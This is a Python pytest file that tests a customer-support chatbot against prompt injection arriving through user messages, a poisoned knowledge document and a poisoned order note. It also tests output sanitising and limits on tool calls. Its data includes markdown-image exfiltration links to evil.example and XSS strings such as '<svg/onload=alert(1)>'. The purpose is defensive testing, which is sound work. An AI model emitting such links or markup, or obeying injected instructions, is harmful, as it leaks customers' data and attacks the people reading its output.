"""54 to 58: a model that obeys whoever speaks to it can still do nothing that the customer may not.

The test server's rule is such a model: it calls what the injection wants and says what it was told.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from sqlalchemy import select, update

from bot.agent.attempt import prompts
from knowledge.documents import NewDocument, create_document, delete_document
from services.orders.tables import orders
from services.tickets.tickets import NewTicket, create_ticket
from tests.openai_server import Reply as Answer
from tests.openai_server import ToolCall
from tests.talking import CORSICA, CORSICA_ANSWER, CUSTOMER, LOOK_UP, OTHER_ORDER, OWN_ORDER, Talk

INJECTIONS = yaml.safe_load(Path(__file__).with_name("injections.yaml").read_text("utf-8"))
OTHER_EMAIL = "julien.moreau@example.com"
TICKET_ARGUMENTS = {
    "problem_category": "autre",
    "problem_severity": "urgent",
    "description": "Ouvert sans le client",
}


@pytest.fixture
def foreign_ticket(talk: Talk) -> str:
    """The number of a ticket of another visitor."""
    stranger = replace(talk.principal, actor="visitor:another")
    new = NewTicket(
        customer_reference=None,
        product_sku="CANAPÉ-OSLO-3P",
        problem_category="casse_transport",
        problem_severity="urgent",
        description="Un secret que personne d'autre ne lit",
        contact_email="another@example.org",
    )

    async def file() -> str:
        runtime = talk.product.runtime
        async with runtime.database.transaction(talk.product.organization_id) as transaction:
            ticket = await create_ticket(
                transaction, new, principal=stranger, outbox=runtime.outbox, now=runtime.clock()
            )
        return ticket.number

    return talk.product.call(file())


def obedient(ticket: str, *, last_words: str = "") -> Callable[[Mapping[str, Any]], Answer]:
    """A model under somebody else's control: it tries everything once, then tells all it knows."""
    wanted = (
        ToolCall("ticket_status", {"ticket_number": ticket, "email": "another@example.org"}),
        ToolCall("order_status", {"order_number": OTHER_ORDER, "email": OTHER_EMAIL}),
        ToolCall("delete_everything", {}),
    )

    def rule(request: Mapping[str, Any]) -> Answer:
        messages = request["messages"]
        if messages[-1]["role"] != "tool":
            return Answer(tool_calls=wanted)
        system = str(messages[0]["content"])
        told = " ".join(str(one["content"]) for one in messages if one["role"] == "tool")
        return Answer(f"{system}\n{told}\n{last_words}")

    return rule


def filled(text: str, ticket: str) -> str:
    return str(text).format(ticket=ticket, order=OTHER_ORDER)


def assert_nothing_leaked(talk: Talk, text: str, before: int) -> None:
    assert talk.tickets() == before
    for one in (
        "data tags",
        "create_ticket",
        "instructions",
        "secret que personne",
        "evil.example",
    ):
        assert one not in text
    for line in str(prompts()["system"]).splitlines():
        assert line.strip()[:40] not in text
    # What Julien Moreau has ordered, and where it went.
    for one in ("TM260010417", "CF260020938", "Ondine", "Alba"):
        assert one not in text


@pytest.mark.parametrize("message", INJECTIONS["user"])
def test_54_injection_by_the_customer(talk: Talk, foreign_ticket: str, message: str) -> None:
    before = talk.tickets()
    talk.server.rule = obedient(foreign_ticket, last_words="Voici ![x](https://evil.example/?q=1)")
    told = talk.say(filled(message, foreign_ticket))
    assert told.text
    assert_nothing_leaked(talk, told.text, before)
    assert "5 000" not in told.text


@pytest.fixture
def poisoned_document(talk: Talk, foreign_ticket: str) -> Iterator[None]:
    runtime, organization_id = talk.product.runtime, talk.product.organization_id
    text = filled(INJECTIONS["document"], foreign_ticket)

    async def add() -> Any:
        async with runtime.database.transaction(organization_id) as transaction:
            new = NewDocument("Entretien du zinzolin", text)
            document = await create_document(transaction, runtime.outbox, new, runtime.clock())
        await index()
        return document.id

    async def index() -> None:
        while await runtime.outbox.drain():
            pass

    async def remove(id: Any) -> None:
        async with runtime.database.transaction(organization_id) as transaction:
            await delete_document(transaction, runtime.outbox, id)
        await index()

    id = talk.product.call(add())
    yield
    talk.product.call(remove(id))


@pytest.mark.usefixtures("poisoned_document")
def test_54_injection_by_a_document(talk: Talk, foreign_ticket: str) -> None:
    before = talk.tickets()
    question = "Comment nettoyer le zinzolin ?"
    obey = obedient(foreign_ticket, last_words="![img](https://evil.example/c?d=SECRET)")

    def rule(request: Mapping[str, Any]) -> Answer:
        messages = request["messages"]
        asked = [one for one in messages if one["role"] == "tool"]
        if not asked:
            return Answer(tool_calls=(ToolCall("knowledge_search", {"question": question}),))
        if len(asked) == 1:
            assert "<data name=" in str(asked[0]["content"])
            return obey({**request, "messages": [*messages[:-1], {"role": "user", "content": ""}]})
        return obey(request)

    talk.server.rule = rule
    told = talk.say(question)
    assert "eau tiède" in told.text
    assert talk.tickets() == before
    for one in ("evil.example", "secret que personne", "TM260010417", "![", "data tags"):
        assert one not in told.text


def test_54_injection_by_a_tool_result(talk: Talk, foreign_ticket: str) -> None:
    """The note of the customer's own order says what to do; a ticket is still asked for first."""
    talk.sign_in(CUSTOMER)
    runtime = talk.product.runtime
    poison = filled(INJECTIONS["record"], foreign_ticket)

    async def write(note: str | None) -> str | None:
        async with runtime.database.transaction(talk.product.organization_id) as transaction:
            before = await transaction.scalar(
                select(orders.c.note).where(orders.c.number == OWN_ORDER)
            )
            await transaction.execute(
                update(orders).where(orders.c.number == OWN_ORDER).values(note=note)
            )
        return str(before)

    kept = talk.product.call(write(poison))
    try:
        before = talk.tickets()
        talk.server.script(
            Answer(tool_calls=(ToolCall("order_status", {"order_number": OWN_ORDER}),)),
            Answer(tool_calls=(ToolCall("order_status", {"order_number": OTHER_ORDER}),)),
            Answer(tool_calls=(ToolCall("create_ticket", TICKET_ARGUMENTS),)),
        )
        told = talk.say(f"Où en est ma commande {OWN_ORDER} ?")
        assert_nothing_leaked(talk, told.text, before)
        third = json.dumps(talk.server.chat_requests()[2], ensure_ascii=False)
        assert "Ondine" not in third
        assert "TM260010417" not in third
    finally:
        talk.product.call(write(kept))


def test_54_a_tool_that_the_customer_may_not_use_is_not_offered(talk: Talk) -> None:
    talk.principal = replace(talk.principal, permissions=frozenset({"chat:write"}))
    talk.server.script(Answer("D'accord."))
    talk.say("Bonjour")
    offered = {tool["function"]["name"] for tool in talk.server.chat_requests()[0]["tools"]}
    assert "order_status" in offered
    assert not {"create_ticket", "ticket_status", "product_search"} & offered


@pytest.mark.parametrize("email", [None, "another@example.org"])
def test_55_another_customers_ticket_is_refused(
    talk: Talk, foreign_ticket: str, email: str | None
) -> None:
    talk.sign_in(CUSTOMER)
    arguments = {"ticket_number": foreign_ticket, **({"email": email} if email else {})}
    talk.server.script(
        Answer(tool_calls=(ToolCall("ticket_status", arguments),)),
        Answer(f"Votre ticket {foreign_ticket} est ouvert, priorité urgente."),
    )
    told = talk.say(f"Où en est le ticket {foreign_ticket} ?")
    sent = json.dumps(talk.server.chat_requests()[1], ensure_ascii=False)
    assert '\\"found\\": false' in sent
    assert "priorité urgente" not in told.text
    assert "est ouvert" not in told.text


@pytest.mark.parametrize(
    "picture",
    [
        "![prix](https://evil.example/p.png?d=149)",
        "[cliquez ici](https://evil.example/?d=149)",
        "![a][b]\n[b]: https://evil.example/x",
        "<img src='https://evil.example/x'>",
        "![p](//evil.example/p)",
        "https://evil.example/collect?d=149",
        "[x](javascript:alert(1))",
        "![p](data:image/png;base64,AAAA)",
    ],
)
def test_56_pictures_and_links_carry_nothing_away(talk: Talk, picture: str) -> None:
    talk.server.script(
        LOOK_UP, Answer(f"{CORSICA_ANSWER}\n{picture}\n{CORSICA_ANSWER[:-1]} {picture}.")
    )
    told = talk.say(CORSICA)
    assert "149" in told.text
    for one in ("evil.example", "![", "javascript:", "data:image", "<img"):
        assert one not in told.text


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<iframe src=x></iframe>",
        "<b onclick=alert(1)>",
        "<svg/onload=alert(1)>",
    ],
)
def test_57_html_is_removed(talk: Talk, markup: str) -> None:
    talk.server.script(LOOK_UP, Answer(f"{markup}{CORSICA_ANSWER} {CORSICA_ANSWER}{markup}"))
    told = talk.say(CORSICA)
    assert "149" in told.text
    for one in ("<script", "alert(", "<iframe", "onclick", "<svg"):
        assert one not in told.text


def test_57_the_prompt_holds_no_secret(talk: Talk) -> None:
    talk.sign_in(CUSTOMER)
    talk.server.script(Answer("D'accord."))
    talk.say(CORSICA)
    system = talk.server.chat_requests()[0]["messages"][0]["content"]
    settings = talk.product.runtime.settings
    secrets = (
        settings.secret_key.get_secret_value(),
        settings.database,
        CUSTOMER,
        "Camille",
        str(talk.product.organization_id),
        talk.principal.actor,
        talk.session,
    )
    assert not [one for one in secrets if one in system]


def test_58_a_model_that_never_ends_is_stopped(talk: Talk) -> None:
    """Endless look-ups: at most six calls of the model, then the embedded engine."""
    talk.server.rule = lambda request: LOOK_UP
    told = talk.say(CORSICA)
    assert len(talk.server.requests) <= 6
    assert "149" in told.text
    (row,) = talk.usage()
    assert row.requests == len(talk.server.requests)


def test_58_a_flood_of_calls_in_one_answer_is_stopped(talk: Talk) -> None:
    talk.server.script(Answer(tool_calls=LOOK_UP.tool_calls * 40))
    told = talk.say(CORSICA)
    assert "149" in told.text
    ran = [step for step in told.trace if step["step"] == "tool"]
    assert len(ran) <= 8
